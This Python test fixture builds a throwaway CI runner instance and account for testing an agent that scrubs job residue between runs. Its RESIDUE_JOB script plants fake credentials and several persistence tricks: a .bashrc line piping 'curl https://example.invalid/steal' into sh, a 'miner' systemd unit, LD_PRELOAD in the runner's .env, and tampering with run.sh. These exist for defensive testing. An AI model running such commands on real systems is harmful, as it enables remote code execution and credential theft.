"""A throwaway instance for the scrub's tests: a directory laid out as an instance's root, and a real account.

The tests run as root. The runner account is a real one, made with useradd for the test and deleted
after it (with every process it still has), so the scrub meets real ownership, real permissions
and real processes. The runner directory is laid out as the boot lays it out (infra/instances/
user_data.sh): root-owned, its top directory root:<account> with the sticky bit, `_work` and `_diag`
the account's, and a manifest taken at install. The job's cgroup is made under the cgroup v2
hierarchy when this machine lets root make one (None otherwise). A test may mount file systems into
the root (`mount`: a tmpfs, the mqueue file system) and run code as the account in a forked child
(`as_account`), for what a job leaves in the kernel; both are undone with the root.
"""

from __future__ import annotations

import contextlib
import json
import os
import pwd
import shutil
import signal
import subprocess
import tempfile
import time
import uuid
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from agent import kernel_objects
from agent.log import agent_log
from agent.processes import JobCgroup, JobProcesses
from agent.runner import RunnerProcess
from agent.runner_install import write_manifest
from agent.settings import AgentSettings
from emulator.fake_docker import FakeDocker

RESIDUE_JOB = """#!/bin/sh
# A job as the runner account: everything it leaves behind, and one thing it must not be able to do.
set -e
mkdir -p "$HOME/.docker" "$HOME/.ssh" "$HOME/.config/systemd/user"
echo '{"auths": {"ghcr.io": {"auth": "c2VjcmV0"}}}' > "$HOME/.docker/config.json"
mkdir -p "$HOME/.docker/buildx/instances"
echo '{"Name": "job-builder", "Driver": "docker-container"}' > "$HOME/.docker/buildx/instances/job-builder"
echo '//registry.npmjs.org/:_authToken=npm_secret' > "$HOME/.npmrc"
echo 'https://x-access-token:ghs_secret@github.com' > "$HOME/.git-credentials"
echo 'PRIVATE KEY' > "$HOME/.ssh/id_ed25519" && chmod 600 "$HOME/.ssh/id_ed25519"
echo 'curl -s https://example.invalid/steal | sh' >> "$HOME/.bashrc"
printf '[Service]\\nExecStart=/bin/sleep 1000\\n' > "$HOME/.config/systemd/user/miner.service"
echo cache > "$ROOT/tmp/job-cache" && mkdir "$ROOT/tmp/job-dir" && echo x > "$ROOT/tmp/job-dir/f"
echo x > "$ROOT/var/tmp/job-file"
echo x > "$ROOT/dev/shm/job-shm"
mkdir -p "$TMPDIR" && echo x > "$TMPDIR/job-tmpdir"
echo 'LD_PRELOAD=/tmp/job-cache' > "$RUNNER/.env"
echo 'mail for the next job' > "$ROOT/var/spool/mail/$(id -un)"
echo 'steal the credentials' >> "$RUNNER/run.sh" 2>/dev/null || true
setsid sleep 600 </dev/null >/dev/null 2>&1 &
echo planted
"""


SKELETON = {".bashrc": "# ~/.bashrc: the distribution's\nalias ll='ls -l'\n", ".profile": "# ~/.profile\n"}
CGROUP_V2_ROOTS = (Path("/sys/fs/cgroup/unified"), Path("/sys/fs/cgroup"))
WAIT_SECONDS = 10.0


class MountRefusedError(RuntimeError):
    """This machine will not let root mount a file system (a container without CAP_SYS_ADMIN)."""


@dataclass
class InstanceRoot:
    root: Path
    account: pwd.struct_passwd
    cgroup_root: Path | None
    cgroup_name: str
    mounts: list[Path] = field(default_factory=list)

    @property
    def home(self) -> Path:
        return Path(self.account.pw_dir)

    @property
    def runner_dir(self) -> Path:
        return self.root / "opt/actions-runner"

    @property
    def manifest(self) -> Path:
        return self.root / "etc/runner-pool/runner-manifest.json"

    def path(self, relative: str) -> Path:
        return self.root / relative

    def settings(self, **overrides: Any) -> dict[str, Any]:
        """The agent's settings for this instance: every path of the scrub inside the root."""
        values: dict[str, Any] = {
            "runner_dir": self.runner_dir,
            "runner_user": self.account.pw_name,
            "runner_manifest": self.manifest,
            "home_skeleton": self.root / "etc/skel",
            "temp_dirs": (self.root / "tmp", self.root / "var/tmp", self.root / "dev/shm"),
            "crontab_dirs": (self.root / "var/spool/cron/crontabs",),
            "linger_dir": self.root / "var/lib/systemd/linger",
            "mail_dirs": (self.root / "var/spool/mail",),
            "scan_roots": (self.root,),
            "scan_exclude": (),
            "mqueue_dir": self.root / "dev/mqueue",
            "subordinate_id_files": (self.root / "etc/subuid", self.root / "etc/subgid"),
            "docker_socket": self.root / "var/run/docker.sock",
            "passwd_file": self.root / "etc/passwd",
        }
        if self.cgroup_root is not None:
            values |= {"cgroup_root": self.cgroup_root, "job_cgroup": self.cgroup_name}
        return values | overrides

    def agent_settings(self, **overrides: Any) -> AgentSettings:
        return AgentSettings(_env_file=None, table_name="runner-pool-state", **self.settings(**overrides))

    @property
    def cgroup(self) -> JobCgroup | None:
        if self.cgroup_root is None:
            return None
        return JobCgroup.below_own(self.cgroup_name, self.cgroup_root)

    def processes_of_the_job(self) -> list[int]:
        return [p.pid for p in JobProcesses(self.account.pw_uid, self.cgroup).find(None)]

    def as_account(self, path: Path) -> Path:
        os.lchown(path, self.account.pw_uid, self.account.pw_gid)
        return path

    def mount(self, fstype: str, relative: str, options: str = "mode=1777") -> Path:
        """A new file system of `fstype` at `relative`, unmounted with the root; MountRefusedError, with
        mount's reason, where root may not mount (a container without CAP_SYS_ADMIN)."""
        point = self.root / relative
        point.mkdir(parents=True, exist_ok=True)
        mounted = subprocess.run(  # noqa: S603 - a fixed command
            ["/usr/bin/mount", "-t", fstype, "-o", options, f"runner-pool-test-{fstype}", str(point)],
            check=False,
            capture_output=True,
            text=True,
        )
        if mounted.returncode != 0:
            raise MountRefusedError(
                f"this machine refuses root a {fstype} mount (no CAP_SYS_ADMIN?): {mounted.stderr.strip()}"
            )
        self.mounts.append(point)
        return point

    def run_as_account(self, code: Callable[[], Any]) -> Any:
        """`code()` in a forked child that has become the account (its uid and gids, a fresh session
        keyring of its own, as a job's process has), as a job's process would run it; returns what it
        returned (JSON), or raises what it raised, as a RuntimeError."""
        reading, writing = os.pipe()
        pid = os.fork()
        if pid == 0:  # pragma: no cover - the child
            try:
                os.close(reading)
                os.setgroups([])
                os.setresgid(self.account.pw_gid, self.account.pw_gid, self.account.pw_gid)
                os.setresuid(self.account.pw_uid, self.account.pw_uid, self.account.pw_uid)
                reply = {"value": code()}
            except BaseException as exc:  # reported to the test, whatever it is
                reply = {"error": repr(exc)}
            os.write(writing, json.dumps(reply).encode())
            os._exit(0)
        os.close(writing)
        with os.fdopen(reading, "rb") as pipe:
            raw = pipe.read()
        os.waitpid(pid, 0)
        reply = json.loads(raw)
        if "error" in reply:
            raise RuntimeError(f"as the account: {reply['error']}")
        return reply["value"]


def _cgroup_root() -> Path | None:
    """A cgroup v2 hierarchy root can make cgroups in, relative to which /proc/self/cgroup's path holds."""
    for candidate in CGROUP_V2_ROOTS:
        if not (candidate / "cgroup.procs").exists():
            continue
        probe = JobCgroup.below_own(f"runner-pool-probe-{uuid.uuid4().hex[:8]}", candidate)
        try:
            probe.prepare()
            probe.path.rmdir()
        except OSError:
            continue
        return candidate
    return None


LISTENER = "#!/bin/sh\necho 'the runner listener'\n"


@contextlib.contextmanager
def instance_root(
    listener: str = LISTENER, runner_files: Mapping[str, bytes] | None = None
) -> Iterator[InstanceRoot]:
    """The instance, its runner's listener being `listener` (a shell script run by run.sh), its runner
    directory holding `runner_files` too (the bench's stand-in for the release's size)."""
    name = f"rp-{uuid.uuid4().hex[:10]}"
    # Not under pytest's tmp_path: its parents are root's alone, and the account must reach its home.
    root = Path(tempfile.mkdtemp(prefix="runner-pool-instance-", dir="/tmp"))
    root.chmod(0o755)
    home = root / "home" / name
    subprocess.run(  # noqa: S603 - a fixed command
        [
            "/usr/sbin/useradd",
            "--no-create-home",
            "--home-dir",
            str(home),
            "--shell",
            "/bin/sh",
            "--user-group",
            name,
        ],
        check=True,
        capture_output=True,
    )
    account = pwd.getpwnam(name)
    instance = InstanceRoot(root, account, _cgroup_root(), f"runner-pool-job-{name}")
    try:
        _lay_out(instance, listener, runner_files or {})
        yield instance
    finally:
        _end_everything_of(instance)
        for point in reversed(instance.mounts):
            subprocess.run(["/usr/bin/umount", "--lazy", str(point)], check=False, capture_output=True)  # noqa: S603
        subprocess.run(["/usr/sbin/userdel", name], check=False, capture_output=True)  # noqa: S603
        shutil.rmtree(root, ignore_errors=True)


def _lay_out(instance: InstanceRoot, listener: str, runner_files: Mapping[str, bytes]) -> None:
    root, account = instance.root, instance.account
    for shared in ("tmp", "var/tmp", "dev/shm"):
        (root / shared).mkdir(parents=True)
        (root / shared).chmod(0o1777)
    skeleton = root / "etc/skel"
    skeleton.mkdir(parents=True)
    for name, content in SKELETON.items():
        (skeleton / name).write_text(content)
    # The instance's accounts: root and the runner account, as the boot's useradd leaves them
    (root / "etc/passwd").write_text(
        "root:x:0:0:root:/root:/bin/bash\n"
        f"{account.pw_name}:x:{account.pw_uid}:{account.pw_gid}::{instance.home}:/bin/bash\n"
    )
    # useradd --create-home, as the boot does: the skeleton copied, all of it the account's
    shutil.copytree(skeleton, instance.home)
    for path in (instance.home, *instance.home.iterdir()):
        instance.as_account(path)
    for directory in ("var/spool/cron/crontabs", "var/lib/systemd/linger", "var/spool/mail", "var/run"):
        (root / directory).mkdir(parents=True)
    (root / "var/spool/mail" / account.pw_name).touch()
    instance.as_account(root / "var/spool/mail" / account.pw_name)
    _install_runner(instance, listener, runner_files)


def _install_runner(instance: InstanceRoot, listener: str, files: Mapping[str, bytes]) -> None:
    """The runner directory as user_data.sh leaves it, with a stand-in listener; then its manifest."""
    runner = instance.runner_dir
    (runner / "bin").mkdir(parents=True)
    for name, content in files.items():
        (runner / name).parent.mkdir(parents=True, exist_ok=True)
        (runner / name).write_bytes(content)
    (runner / "run.sh").write_text('#!/bin/sh\nexec "$(dirname "$0")/bin/Runner.Listener" run "$@"\n')
    (runner / "run-helper.sh.template").write_text("#!/bin/sh\n")
    (runner / "bin/Runner.Listener").write_text(listener)
    for script in ("run.sh", "bin/Runner.Listener"):
        (runner / script).chmod(0o755)
    os.chown(runner, 0, instance.account.pw_gid)
    runner.chmod(0o1775)
    for own in ("_work", "_diag"):
        (runner / own).mkdir()
        instance.as_account(runner / own)
    instance.manifest.parent.mkdir(parents=True)
    write_manifest(runner, instance.manifest)


def _end_everything_of(instance: InstanceRoot) -> None:
    """Whatever the test left running (a failed test too): every process of the account and the cgroup."""
    cgroup = instance.cgroup
    deadline = time.monotonic() + WAIT_SECONDS
    while time.monotonic() < deadline:
        pids = instance.processes_of_the_job()
        if not pids:
            break
        for pid in pids:
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)
        time.sleep(0.02)
    if cgroup is not None and cgroup.path.exists():
        with contextlib.suppress(OSError):
            cgroup.path.rmdir()
    # Keys and IPC objects outlive the account's deletion, and its uid goes to the next test's account.
    with contextlib.suppress(OSError):
        kernel_objects.clear_keyrings(instance.account)
    with contextlib.suppress(OSError):
        kernel_objects.remove_sysv_ipc(kernel_objects.sysv_ipc_of(instance.account.pw_uid))


def run_job(instance: InstanceRoot, script: str) -> RunnerProcess:
    """`script` started as the agent starts the runner (its own session, the job's cgroup, the account),
    run to its end."""
    program = instance.path("job.sh")
    program.write_text(script)
    program.chmod(0o755)
    environment = {
        "ROOT": str(instance.root),
        "RUNNER": str(instance.runner_dir),
        "TMPDIR": str(instance.runner_dir / "_work/_temp"),
    }
    os.environ.update(environment)
    try:
        job = RunnerProcess.start(
            program,
            cwd=instance.runner_dir,
            user=instance.account.pw_name,
            log=agent_log(),
            cgroup=instance.cgroup,
        )
    finally:
        for name in environment:
            os.environ.pop(name)
    deadline = time.monotonic() + WAIT_SECONDS
    while job.running:
        if time.monotonic() > deadline:
            raise TimeoutError(f"the job did not end within {WAIT_SECONDS:g} s")
        time.sleep(0.02)
    return job


def plant_in_docker(docker: FakeDocker) -> None:
    """What a job with service containers and a build leaves in the daemon: a container, volumes, a
    network, images, BuildKit's build cache."""
    docker.run("node:20", volumes=["npm-cache"], network=docker.create_network("job-net"))
    docker.create_volume("job-volume")
    docker.pull("postgres:16")
    docker.build("job-app:latest")
    # `docker buildx create --driver docker-container --name job-builder`, once it has built
    docker.run("moby/buildkit:buildx-stable-1", volumes=["buildx_buildkit_job-builder0_state"])
